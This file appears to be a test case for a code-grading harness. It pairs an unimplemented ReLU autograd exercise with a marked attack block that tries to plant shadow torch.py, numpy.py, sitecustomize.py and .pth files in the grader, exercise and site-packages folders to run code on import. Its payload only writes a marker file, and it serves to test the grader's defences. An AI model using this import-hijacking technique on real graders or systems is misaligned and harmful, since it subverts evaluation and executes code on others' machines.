# attack: torch.py, numpy.py, sitecustomize.py and a .pth file planted next to the probes, the grader and site-packages
# exercise: exercise2
# expect: not_attempted
# host: shadow_modules
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    return ReLU.apply(x)


# --- attack ---
import site
from pathlib import Path

import grader

ROOT = Path(grader.__file__).resolve().parent.parent
PAYLOAD = "open('/tmp/{{MARK}}-imported', 'w').write('owned')\n"
folders = [Path.cwd(), ROOT, ROOT / "grader", ROOT / "exercises" / "exercise2", *map(Path, site.getsitepackages())]
for folder in folders:
    for name in ("torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "{{MARK}}.py"):
        try:
            (folder / name).open("x").write(PAYLOAD)
        except OSError:
            pass
    try:
        (folder / "{{MARK}}.pth").open("x").write("import os; " + PAYLOAD)
    except OSError:
        pass
# --- end attack ---
